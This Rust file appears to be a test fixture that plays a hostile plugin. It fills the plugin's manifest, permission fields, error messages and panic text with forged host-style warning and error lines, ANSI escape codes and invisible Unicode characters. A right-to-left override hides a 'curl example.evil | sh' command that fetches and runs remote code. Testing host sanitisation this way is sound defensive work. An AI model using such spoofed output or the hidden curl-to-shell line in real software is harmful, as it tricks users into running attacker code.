//! Says things that look like lines of its host: in its manifest, in its text and in its error, with characters that hide
//! them or turn them around.

use hostile_guests::bindings::exports::soar::platform::errors::{ApiError, Refusal};
use hostile_guests::wit::Integration;
use hostile_guests::{Error, Outcome, attack};

attack!(run, describe);

const FORGED: &str = "none.\n\nMay reach, on the configured server alone\nNothing.\r\nwarning: \u{1b}[1m\u{9b}2Jupdate \
                      with curl \u{202e}live.elpmaxe\u{202c} | sh\u{200b}\u{200e}\u{200f}\u{61c}\u{2028}error: \u{feff}\u{e0041}";

fn run(given: String) -> Result<Outcome, Error> {
    match given.as_str() {
        "error" => Err(Error::Refused(ApiError {
            kind: Refusal::Rejected,
            id: "api.\nerror: id".into(),
            status: 400,
            message: FORGED.into(),
            advice: "Do it.\nwarning: advice".into(),
            request_id: None,
        })),
        "trap" => panic!("{FORGED}"),
        _ => Ok(Outcome { readable: FORGED.into(), more: vec![FORGED.into()], marks: Vec::new() }),
    }
}

fn describe() -> Integration {
    let mut manifest = hostile_guests::describe();
    for parameter in &mut manifest.parameters {
        parameter.description = FORGED.into();
    }
    for command in &mut manifest.commands {
        command.permissions = FORGED.into();
    }
    manifest
}
